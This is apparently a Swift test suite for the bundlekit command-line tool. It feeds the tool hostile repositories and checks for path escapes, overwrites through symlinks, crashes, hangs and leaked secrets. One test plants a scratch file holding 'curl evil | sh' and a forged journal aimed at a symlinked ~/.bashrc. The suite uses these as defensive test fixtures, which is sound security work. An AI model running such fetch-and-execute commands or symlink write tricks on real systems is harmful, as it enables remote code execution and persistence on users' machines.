import BundleKitFileSystem
import BundleKitTestSupport
import Foundation
import Testing

/// A checkout, a pull request or an archive is input from strangers: what it holds must not
/// make a command write outside the tree, destroy what it did not make, or take a CI job down.
@Suite("Hostile input")
struct HostileInputTests {
  static let generator = Corpus.packageRoot.appendingPathComponent(
    "Tests/BundleKitCLITests/Hostile/make-hostile.py"
  ).path

  /// One case of the generated corpus.
  struct Case: Decodable {
    var name: String
    var expect: String
    /// What the error must say: the real cause.
    var says: String
    var commands: [[String]]
  }

  /// The canary every hostile run has in its environment (so in `/proc/self/environ`):
  /// no output may show it, nor any other text with `CANARY` or `SECRET` in it.
  static let canary = "CANARY-ENV-7f3a9c"

  /// Runs `bundlekit` under a time limit (60 s) and a memory limit (4 GiB of address space),
  /// with the canary variable set.
  func bounded(_ arguments: [String], in folder: String) throws -> Tool.Result {
    let tool = try #require(BundleKitTool.path)
    return try Tool.run(
      "/bin/bash",
      [
        "-c",
        "ulimit -v 4194304; export BUNDLEKIT_CANARY=\(Self.canary); exec timeout 60 \"$0\" \"$@\"",
        tool,
      ] + arguments,
      in: folder)
  }

  @Test(
    "the hostile-project corpus: every run a located error or the right answer, no crash, no hang, no secret",
    .enabled(if: Tool.path("python3") != nil && Tool.path("timeout") != nil))
  func corpus() throws {
    let folder = try TemporaryFolder()
    let python = try #require(Tool.path("python3"))
    let made = try Tool.run(python, [Self.generator, folder.path])
    try #require(made.status == 0, "\(made.stderr)")
    let cases = try JSONDecoder().decode(
      [Case].self, from: Data(contentsOf: URL(fileURLWithPath: folder.file("cases.json"))))
    #expect(cases.count >= 34)
    for item in cases {
      for command in item.commands {
        let start = Date()
        let run = try bounded(command + [item.name], in: folder.path)
        let seconds = Date().timeIntervalSince(start)
        let label = "\(item.name): bundlekit \(command.joined(separator: " ")) (\(seconds) s)"
        print(label, "exit", run.status)
        // 124: stopped at the time limit; a signal (a crash, the memory limit) is anything but
        // 0 and 1 too.
        #expect(
          run.status == 0 || run.status == 1, "\(label): crashed or hung; \(run.stderr.prefix(400))"
        )
        if item.expect == "ok" {
          #expect(run.status == 0, "\(label): \(run.stderr.prefix(400))")
        } else {
          #expect(run.status == 1, "\(label): \(run.stderr.prefix(400))")
          // Located: the message names a file of the case.
          #expect(run.stderr.contains("\(item.name)/"), "\(label): \(run.stderr.prefix(400))")
          #expect(run.stderr.contains("error:"), "\(label)")
          #expect(run.stderr.contains(item.says), "\(label): \(run.stderr.prefix(400))")
        }
        #expect(
          run.stderr.utf8.count < 20_000, "\(label): a message of \(run.stderr.utf8.count) bytes")
        let output = String(decoding: run.stdout, as: UTF8.self) + run.stderr
        for secret in ["SECRET", "CANARY"] {
          #expect(
            !output.contains(secret), "\(label): a secret reached the output: \(output.prefix(600))"
          )
        }
      }
    }
    // A catalog language of ../../../escaped-hostile compiled into compiled/a/b: nothing
    // was written out of it.
    #expect(!FileManager.default.fileExists(atPath: folder.file("escaped-hostile.lproj")))
    #expect(!FileManager.default.fileExists(atPath: folder.file("compiled")))
  }

  /// A repository as the attack builds it: a committed journal (unsigned, old format, and
  /// one with a forged MAC), a "scratch" file holding the attacker's text, and `h -> HOME`.
  func plantedRepository(home: String) throws -> TemporaryFolder {
    let repository = try TemporaryFolder()
    try FileManager.default.createSymbolicLink(
      atPath: repository.file("h"), withDestinationPath: home)
    let scratch = ".x~bundlekit-yyyyyyz1k.0"
    try Data("curl evil | sh\n".utf8).write(to: URL(fileURLWithPath: repository.file(scratch)))
    let body = Array(scratch.utf8) + [0] + Array("h/.bashrc".utf8) + [0]
    try Data(Array("bundlekit rename journal 1\n".utf8) + body).write(
      to: URL(fileURLWithPath: repository.file(".bundlekit-yyyyyyz1k.committed")))
    try Data(
      Array("bundlekit rename journal 2\n".utf8) + Array(repeating: UInt8(ascii: "a"), count: 64)
        + [0x0A] + body
    ).write(to: URL(fileURLWithPath: repository.file(".bundlekit-yyyyyyz2k.committed")))
    try FileIO.createFolders(for: repository.file("App/Info.plist"))
    try Data(
      """
      <?xml version="1.0" encoding="UTF-8"?>
      <plist version="1.0"><dict><key>CFBundleVersion</key><string>7</string></dict></plist>

      """.utf8
    ).write(to: URL(fileURLWithPath: repository.file("App/Info.plist")))
    return repository
  }

  @Test("a planted journal never writes through a link out of the repository, whatever command")
  func plantedJournal() throws {
    let home = try TemporaryFolder()
    try Data("precious\n".utf8).write(to: URL(fileURLWithPath: home.file(".bashrc")))
    for command in [
      ["version"], ["bump", "build"], ["strings", "lint"], ["scan"], ["recover"],
    ] {
      let repository = try plantedRepository(home: home.path)
      let run = try BundleKitTool.run(command + [repository.path])
      #expect(run.status < 128, "\(command)")
      #expect(
        try String(contentsOfFile: home.file(".bashrc"), encoding: .utf8) == "precious\n",
        "\(command)")
      #expect(try FileManager.default.contentsOfDirectory(atPath: home.path) == [".bashrc"])
      // Read-only commands say what they left; the journals stay where they are.
      #expect(
        FileManager.default.fileExists(atPath: repository.file(".bundlekit-yyyyyyz1k.committed")))
      if command == ["version"] || command == ["strings", "lint"] {
        #expect(
          run.stderr.contains("unfinished BundleKit write journal"), "\(command): \(run.stderr)")
      }
    }
  }
}
